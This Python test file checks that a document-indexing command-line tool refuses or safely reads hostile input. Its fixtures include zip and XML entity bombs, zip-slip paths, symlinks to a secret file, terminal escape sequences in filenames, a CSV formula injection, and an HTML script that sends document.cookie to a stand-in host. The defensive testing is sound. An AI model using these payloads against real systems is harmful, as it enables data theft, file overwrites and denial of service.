"""Hostile files are refused or read within limits, each with its reason; the others are indexed."""

import gzip
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.cli.conftest import Command

SECRET = "the vault opens at 04:17"
GOOD = ("first.md", "notes/second.txt", "third.html")
MEGABYTE = 1_000_000


def packed(members: dict[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return content.getvalue()


HOSTILE = {
    # bombs
    "zeros.zip": packed({"zeros.txt": bytes(25 * MEGABYTE)}),
    "zeros.txt.gz": gzip.compress(bytes(25 * MEGABYTE)),
    "zeros.docx": packed({"word/document.xml": b"<w>" + b" " * 25 * MEGABYTE + b"</w>"}),
    "laughs.docx": packed(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "'
            + b"&a;" * 1000
            + b'"><!ENTITY c "'
            + b"&b;" * 1000
            + b'">]><w:document><w:body>&c;</w:body></w:document>',
        }
    ),
    "nested.zip": packed({"inner.zip": packed({"inner.md": b"# Inner\n\nwords"})}),
    # nesting and numbers that parsers choke on
    "deep.json": b"[" * 100_000 + b"]" * 100_000,
    "digits.json": b'{"n": ' + b"9" * 6_000 + b"}",
    "deep.html": b"<div>" * 50_000 + b"words",
    # damaged
    "broken.pdf": b"%PDF-1.7\n1 0 obj\n<< /Length 99999 >>\nstream\n",
    "empty.pdf": b"",
    "broken.docx": b"PK\x03\x04 no archive",
    "broken.xlsx": b"\x00" * 100,
    "binary.md": bytes(range(256)) * 50,
    "front.md": b"---\nx: 2026-02-30\n---\n\nA note with a date.\n",
    # names that lead out
    "slip.zip": packed({"../../slipped.md": b"# Slipped", "/tmp/slipped.md": b"# Slipped"}),
    "backslash.zip": packed({"..\\..\\slipped.md": b"# Slipped"}),
}
LISTED_AS = {
    "zeros.zip": ("zeros.zip/zeros.txt",),
    "nested.zip": ("nested.zip/inner.zip",),
    "slip.zip": ("slip.zip/../../slipped.md", "slip.zip//tmp/slipped.md"),
    "backslash.zip": ("backslash.zip/../../slipped.md",),
}
"""Paths under which the files of an archive are listed."""
READ_WITHOUT_HARM = {"binary.md", "front.md", "digits.json", "deep.html"}
"""Files that may be read, as long as nothing else happens."""
ACTIVE = {
    "page.html": "<html><body><p>Opening hours of the vault office.</p>"
    "<script>fetch('http://evil.test/' + document.cookie)</script>"
    "<img src='http://evil.test/beacon.png' onerror='alert(1)'></body></html>",
    "sheet.csv": 'item,price\n=HYPERLINK("http://evil.test";"click"),1\n@SUM(A1),2\n',
}


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the hostile one, with a secret."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.md").write_text(f"# Secret\n\n{SECRET}\n", "utf-8")
    return folder


@pytest.fixture
def hostile(tmp_path: Path, outside: Path) -> Path:
    folder = tmp_path / "hostile"
    (folder / "notes").mkdir(parents=True)
    for name in GOOD:
        (folder / name).write_text(f"<p>The {name} is a good file.</p>", "utf-8")
    for name, content in HOSTILE.items():
        (folder / name).write_bytes(content)
    for name, text in ACTIVE.items():
        (folder / name).write_text(text, "utf-8")
    with (folder / "huge.md").open("wb") as file:
        file.truncate(21 * MEGABYTE)
    (folder / "link.md").symlink_to(outside / "secret.md")
    (folder / "linked").symlink_to(outside, target_is_directory=True)
    (folder / "loop").symlink_to(folder, target_is_directory=True)
    (folder / "dangling.md").symlink_to(folder / "nowhere.md")
    os.mkfifo(folder / "pipe.md")
    (folder / "bell\x1b]0;owned\x07.md").write_text("A name with control characters.", "utf-8")
    (folder / os.fsdecode(b"\xcf\xf0.md")).write_text("A name that is not UTF-8.", "utf-8")
    return folder


def everything_in(folder: Path) -> bytes:
    return b"".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())


@pytest.mark.slow
def test_a_hostile_folder(
    command: Command,
    hostile: Path,
    outside: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    home = tmp_path / "home"
    monkeypatch.setenv("WORKBENCH_HOME", str(home))
    before = sorted(tmp_path.rglob("*"))
    assert command("new", "vault") == 0
    capsys.readouterr()
    assert command("ingest", str(hostile), "-w", "vault", "--json") == 1
    report: dict[str, Any] = json.loads(capsys.readouterr().out)
    files = {file["path"]: file for file in report["files"]}

    for name in GOOD + tuple(ACTIVE):
        assert files[name]["chunks"] >= 1, name
    for name in HOSTILE.keys() - READ_WITHOUT_HARM:
        for path in LISTED_AS.get(name, (name,)):
            assert files[path]["reason"], path
            assert files[path]["chunks"] == 0
    assert "larger than 20 MB" in files["huge.md"]["reason"]
    assert r"\xcf\xf0.md" in files
    skipped = {file["path"]: file["reason"] for file in report["skipped"]}
    assert {"link.md", "linked", "loop", "dangling.md", "pipe.md"} <= skipped.keys()
    assert all(skipped.values())

    written = everything_in(home)
    assert SECRET.encode() not in written
    assert [
        path for path in sorted(tmp_path.rglob("*")) if home not in (path, *path.parents)
    ] == before
    assert not Path("/tmp/slipped.md").exists()
    assert sorted(outside.iterdir()) == [outside / "secret.md"]

    assert command("verify", "-w", "vault") == 0
    assert command("search", "opening hours vault", "-w", "vault") == 0
    printed = capsys.readouterr()
    assert "fetch(" not in printed.out
    assert "evil.test" not in printed.out
    assert "\x1b" not in printed.out + printed.err


@pytest.mark.slow
def test_links_that_stand_in_the_documents_folder_are_refused_too(
    command: Command,
    outside: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("WORKBENCH_HOME", str(tmp_path / "home"))
    assert command("new", "vault") == 0
    documents = tmp_path / "home" / "workspaces" / "vault" / "documents"
    (documents / "good.md").write_text("A good file.", "utf-8")
    (documents / "link.md").symlink_to(outside / "secret.md")
    (documents / "linked").symlink_to(outside, target_is_directory=True)
    os.mkfifo(documents / "pipe.md")
    capsys.readouterr()
    assert command("ingest", "-w", "vault", "--json") == 0
    report = json.loads(capsys.readouterr().out)
    reasons = {file["path"]: file["reason"] for file in report["files"]}
    assert "leads out" in reasons["link.md"]
    assert "leads out" in reasons["linked"]
    assert reasons["pipe.md"]
    assert reasons["good.md"] == ""
    assert SECRET.encode() not in everything_in(tmp_path / "home" / "indexes")


def test_a_documents_folder_that_is_a_link_is_neither_read_nor_written(
    command: Command,
    outside: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("WORKBENCH_HOME", str(tmp_path / "home"))
    assert command("new", "vault") == 0
    documents = tmp_path / "home" / "workspaces" / "vault" / "documents"
    documents.rmdir()
    documents.symlink_to(outside, target_is_directory=True)
    capsys.readouterr()
    assert command("ingest", "-w", "vault") == 0
    printed = capsys.readouterr()
    assert "documents: a link to a folder" in printed.err
    assert "0 documents indexed" in printed.out
    new = tmp_path / "new.md"
    new.write_text("A new file.", "utf-8")
    assert command("ingest", str(new), "-w", "vault") == 2
    assert sorted(outside.iterdir()) == [outside / "secret.md"]


def test_what_may_not_be_read_is_named_and_the_others_are_copied(tmp_path: Path) -> None:
    source = tmp_path / "papers"
    (source / "locked").mkdir(parents=True)
    (source / "kettle.md").write_text("The kettle is green.", "utf-8")
    (source / "private.md").write_text(SECRET, "utf-8")
    (source / "locked" / "inner.md").write_text(SECRET, "utf-8")
    (source / "private.md").chmod(0)
    (source / "locked").chmod(0)
    as_user: tuple[str, ...] = ()
    if os.geteuid() == 0:
        if not shutil.which("setpriv"):
            pytest.skip("root reads everything, and there is no setpriv to take that away")
        rights = "-dac_override,-dac_read_search"
        as_user = ("setpriv", f"--inh-caps={rights}", f"--bounding-set={rights}")
    done = subprocess.run(
        [*as_user, sys.executable, "-m", "workbench", "new", "papers", "--from", str(source)],
        env={**os.environ, "WORKBENCH_HOME": str(tmp_path / "home")},
        capture_output=True,
        text=True,
        check=False,
    )
    (source / "locked").chmod(0o700)

    assert done.returncode == 0
    assert "private.md: it may not be read; not copied" in done.stderr
    assert "locked: a folder that may not be listed; not copied" in done.stderr
    assert "papers: 1 document indexed" in done.stdout
